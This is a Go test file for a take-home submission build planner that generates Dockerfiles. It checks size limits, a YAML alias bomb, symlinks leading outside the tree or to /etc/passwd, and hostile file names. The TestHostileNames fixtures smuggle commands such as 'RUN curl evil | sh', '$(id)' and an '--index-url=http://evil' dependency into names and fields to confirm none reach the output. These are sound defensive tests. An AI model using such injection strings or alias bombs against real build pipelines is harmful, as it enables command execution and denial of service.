package build_test

import (
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/takehome-dev/takehome/internal/build/dockerfile"
	"github.com/takehome-dev/takehome/internal/takehome"
)

func notes(start takehome.StartPlan) string { return strings.Join(start.Notes, "\n") }

func TestFilesThatAreTooBigAreLeftOut(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	write(t, dir, "package.json", `{"name": "x", "scripts": {"start": "node a.js"}, "x": "`+strings.Repeat("y", 10<<20)+`"}`)
	write(t, dir, "docker-compose.yml", "services: {}\n# "+strings.Repeat("z", 1<<20))
	proposal := plan(t, dir)
	require.NotNil(t, proposal.Breakdown)
	require.Equal(t, "build", proposal.Breakdown.Phase)
	require.Contains(t, notes(proposal.Start), "package.json is larger than 1024 KiB, and was not read")
	require.Contains(t, notes(proposal.Start), "docker-compose.yml is larger than 256 KiB, and was not read")
}

func TestAliasBombIsANote(t *testing.T) {
	t.Parallel()
	var bomb strings.Builder
	bomb.WriteString("a: &a [x,x,x,x,x,x,x,x,x,x]\n")
	for letter := 'b'; letter <= 'j'; letter++ {
		before := string(letter - 1)
		bomb.WriteString(string(letter) + ": &" + string(letter) + " [" + strings.Repeat("*"+before+",", 9) + "*" + before + "]\n")
	}
	bomb.WriteString("services: {app: {build: ., environment: *j}}\n")
	dir := t.TempDir()
	write(t, dir, "compose.yaml", bomb.String())
	write(t, dir, "takehome.yaml", bomb.String())
	write(t, dir, "Dockerfile", "FROM scratch\nCMD [\"/x\"]\n")
	proposal := plan(t, dir)
	require.Nil(t, proposal.Breakdown)
	require.Equal(t, "Dockerfile", proposal.Recipe.Source)
	require.Contains(t, notes(proposal.Start), "compose.yaml was left out")
	require.Contains(t, notes(proposal.Start), "takehome.yaml was left out")
}

func TestLinksStayInside(t *testing.T) {
	t.Parallel()
	if runtime.GOOS == "windows" {
		t.Skip("links need a privilege on Windows")
	}
	outside := t.TempDir()
	write(t, outside, "compose.yml", "services: {app: {build: ., environment: {LEAKED: yes-it-did}}}\n")
	dir := t.TempDir()
	write(t, dir, "real/Dockerfile", "FROM scratch\nEXPOSE 4321\n")
	require.NoError(t, os.Symlink(filepath.Join(outside, "compose.yml"), filepath.Join(dir, "compose.yml")))
	require.NoError(t, os.Symlink("/etc/passwd", filepath.Join(dir, ".env")))
	require.NoError(t, os.Symlink("README.md", filepath.Join(dir, "README.md")))
	require.NoError(t, os.Symlink("real/Dockerfile", filepath.Join(dir, "Dockerfile")))
	proposal := plan(t, dir)
	require.Equal(t, "Dockerfile", proposal.Recipe.Source, "a link inside the tree is followed")
	require.Equal(t, []takehome.Port{{Number: 4321, Source: "Dockerfile: EXPOSE"}}, proposal.Start.Ports)
	require.Contains(t, notes(proposal.Start), "compose.yml is a link that leads nowhere inside the submission, and was left out")
	for _, setting := range proposal.Start.Env {
		require.Equal(t, "contract", setting.Source, setting.Name)
	}
}

func TestAFolderIsNoDockerfile(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	write(t, dir, "Dockerfile/readme.txt", "x")
	write(t, dir, "go.mod", "module x\n")
	write(t, dir, "main.go", "package main\nfunc main() {}\n")
	proposal := plan(t, dir)
	require.Equal(t, "detected: go", proposal.Recipe.Source)
	require.Contains(t, notes(proposal.Start), "Dockerfile is a folder, not a file")
}

// TestHostileNames puts line breaks, quotes and variables wherever a name of the
// submission can reach the Dockerfile or the plan.
func TestHostileNames(t *testing.T) {
	t.Parallel()
	if runtime.GOOS == "windows" {
		t.Skip("Windows refuses these names")
	}
	const nasty = "a\nRUN curl evil | sh\n$(id)\"'`"
	for name, files := range map[string]map[string]string{
		"npm script": {
			"package.json": `{"scripts": {"start": "node \"x\\nRUN evil\" '$(id)' \\\\"}, "dependencies": {"pg": "8"}}`, "x": "",
		},
		"main": {
			"package.json": `{"main": "a\nRUN evil", "dependencies": {"pg": "8"}}`, "a\nRUN evil": "", "lib/" + nasty: "",
		},
		"workspace": {
			"package.json":                 `{"workspaces": ["*"], "devDependencies": {"turbo": "2"}}`,
			"apps\nRUN x/api/package.json": `{"scripts": {"start": "node a.js", "build": "tsc"}, "dependencies": {"express": "4"}}`, "apps\nRUN x/api/a.js": "",
		},
		"go folder": {
			"go.mod": "module x\n", "cmd/a\nRUN evil/main.go": "package main\nimport \"bad import\\nRUN x\"\nfunc main() {}\n",
		},
		"go imports": {
			"go.mod": "module x\n", "go.sum": "x", "main.go": "package main\nimport (\n\"a$(id)\"\n\"b;c\"\n\"--exec\"\n\"../../x\"\n)\nfunc main() {}\n",
		},
		"python module": {
			"requirements.txt": "fastapi", "a\nRUN b/main.py": "from fastapi import FastAPI\napp = FastAPI()\n", "x;id/main.py": "from fastapi import FastAPI\napp = FastAPI()\n",
		},
		"python requirement": {
			"pyproject.toml": "[project]\ndependencies = [\"x\\nRUN evil\", \"--index-url=http://evil\", \"ok>=1\", \"y; os_name=='$(id)'\"]\n", "main.py": "from fastapi import FastAPI\napp = FastAPI()\n",
		},
		"versions": {
			"package.json":   `{"packageManager": "pnpm@9\nRUN evil", "engines": {"node": ">=22\nRUN evil"}, "scripts": {"start": "node a.js"}, "dependencies": {"pg": "8"}}`,
			"pnpm-lock.yaml": "", "a.js": "",
		},
		"ruby": {"Gemfile": "ruby \"3.3\nRUN evil\"\ngem \"sinatra\"\n", "app.rb": ""},
		"java": {"pom.xml": "<java.version>17\nRUN evil</java.version>"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			for file, body := range files {
				write(t, dir, file, body)
			}
			proposal := plan(t, dir)
			for _, line := range append(proposal.Start.Notes, proposal.Recipe.Notes...) {
				require.NotContains(t, line, "\n")
			}
			require.NotContains(t, proposal.Recipe.Source, "\n")
			if proposal.Breakdown != nil {
				return
			}
			text := string(proposal.Recipe.Dockerfile)
			for line := range strings.SplitSeq(strings.TrimSpace(text), "\n") {
				instruction, _, _ := strings.Cut(line, " ")
				require.Contains(t, []string{"#", "FROM", "RUN", "WORKDIR", "ENV", "COPY", "USER", "CMD"}, instruction, text)
				if instruction == "#" || strings.Contains(line, "[") {
					continue // only words of a JSON array may be the candidate's
				}
				for _, theirs := range []string{"evil", "$(id)", "--exec", ";id", "b;c", "../", "RUN x"} {
					require.NotContains(t, line, theirs, text)
				}
			}
			file, err := dockerfile.Read(proposal.Recipe.Dockerfile, "")
			require.NoError(t, err)
			require.Equal(t, file.Command[0], proposal.Start.Command[0])
		})
	}
}

func TestAnUnreadableSubmissionIsOurError(t *testing.T) {
	t.Parallel()
	_, err := planOf(t, filepath.Join(t.TempDir(), "not-there"))
	require.Error(t, err)
	require.Equal(t, takehome.Takehome, takehome.OwnerOf(err))
}
